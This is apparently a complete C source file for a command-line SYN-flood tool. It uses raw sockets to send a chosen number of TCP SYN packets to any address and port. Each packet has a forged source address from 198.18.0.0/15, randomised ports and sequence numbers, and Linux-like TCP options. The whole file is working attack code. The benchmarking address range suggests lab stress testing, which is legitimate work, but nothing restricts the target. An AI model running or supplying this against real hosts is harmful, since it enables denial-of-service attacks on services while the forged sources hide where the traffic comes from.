/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/*
 * synflood ADDRESS PORT COUNT: sends so many SYNs, with the options that Linux' have, as if each came from another host of 198.18.0.0/15.
 * Prints how many were sent.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

static const unsigned char options[] = { 2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7 };

struct packet {
	struct iphdr ip;
	struct tcphdr tcp;
	unsigned char options[sizeof(options)];
};

/* Of TCP, and of what it takes of IP's header; the kernel does that of IP */
static unsigned short checksum(const struct packet *p)
{
	const unsigned short *word = (const unsigned short *)&p->ip.saddr, *end = (const unsigned short *)(p + 1);
	unsigned long sum = htons(IPPROTO_TCP) + htons(sizeof(p->tcp) + sizeof(options));

	while (word < end)
		sum += *word++;
	sum = (sum & 0xffff) + (sum >> 16);
	return ~(sum + (sum >> 16));
}

int main(int argc, char **argv)
{
	struct packet p = {
		.ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP },
		.tcp = { .doff = (sizeof(p.tcp) + sizeof(options)) / 4, .syn = 1, .window = 0xf0fa },
	};
	struct sockaddr_in to = { .sin_family = AF_INET };
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	unsigned int count, i, sent = 0;

	if (argc != 4 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 || s < 0) {
		fputs("usage, as root: synflood ADDRESS PORT COUNT\n", stderr);
		return 2;
	}
	count = atoi(argv[3]);
	memcpy(p.options, options, sizeof(options));
	p.ip.daddr = to.sin_addr.s_addr;
	p.tcp.dest = htons(atoi(argv[2]));
	for (i = 0; i < count; i++) {
		p.ip.saddr = htonl(0xc6120001 + i % 131000);
		p.tcp.source = htons(1024 + random() % 64000);
		p.tcp.seq = random();
		p.tcp.check = 0;
		p.tcp.check = checksum(&p);
		sent += sendto(s, &p, sizeof(p), 0, (struct sockaddr *)&to, sizeof(to)) == sizeof(p);
	}
	printf("%u sent of %u\n", sent, count);
	return sent != count;
}
